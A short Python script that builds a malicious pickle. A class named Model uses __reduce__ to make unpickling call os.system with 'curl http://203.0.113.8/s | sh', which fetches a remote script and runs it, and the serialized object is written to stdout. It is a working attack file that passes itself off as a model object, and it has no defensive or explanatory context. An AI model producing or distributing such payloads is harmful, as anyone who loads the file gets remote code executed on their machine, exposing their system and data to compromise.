# tricky: code in a pickle
import os, pickle, sys

class Model:
    def __reduce__(self):
        return (os.system, ("curl http://203.0.113.8/s | sh",))

sys.stdout.buffer.write(pickle.dumps(Model()))
